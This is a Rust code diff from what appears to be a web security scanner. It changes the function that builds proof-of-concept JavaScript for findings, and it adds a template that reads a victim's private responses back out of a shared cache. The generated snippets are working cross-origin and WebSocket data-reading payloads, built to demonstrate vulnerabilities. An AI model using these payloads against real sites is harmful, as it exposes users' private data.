@@ -44,14 +44,12 @@ fn script(target: &str, finding: &Finding) -> Option<String> {
     // A frame without an origin hands what it read to the page around it.
     let show = match finding.witness_origin.as_deref() {
         Some("null") => "const show=text=>parent.postMessage(text,'*');",
-        _ => {
-            "const show=text=>{document.getElementById('seen').textContent+=text+'\\n';};"
-        }
+        _ => "const show=text=>{document.getElementById('seen').textContent+=text+'\\n';};",
     };
     let credentials = if finding.with_credentials == Some(true) { "include" } else { "omit" };
     let action = match finding.class {
         Class::WebSocketOrigin => {
-            let url = finding.reproduction.as_ref().map_or(target, |it| &it.url);
+            let url = &finding.reproduction.as_ref()?.url;
             let url = quote(&url.replacen("http", "ws", 1));
             format!(
                 "const s=new WebSocket({url});s.onmessage=e=>show('read: '+e.data);\
@@ -71,6 +69,14 @@ fn script(target: &str, finding: &Finding) -> Option<String> {
                 quote(url)
             )
         }
+        // The user's browser brings the answer into the cache; then anybody reads it there.
+        Class::CachedPrivate => format!(
+            "const url={}+'&page='+Date.now();\
+             fetch(url,{{mode:'no-cors',credentials:'include',cache:'no-store'}})\
+             .then(()=>fetch(url,{{credentials:'omit',cache:'no-store'}}))\
+             .then(async r=>show('read: '+r.status+'\\n'+await r.text()),e=>show('blocked: '+e));",
+            quote(&finding.reproduction.as_ref()?.url)
+        ),
         Class::IntendedRefused | Class::PreflightNarrower => return None,
         _ => {
             let shown = finding.reproduction.as_ref()?;
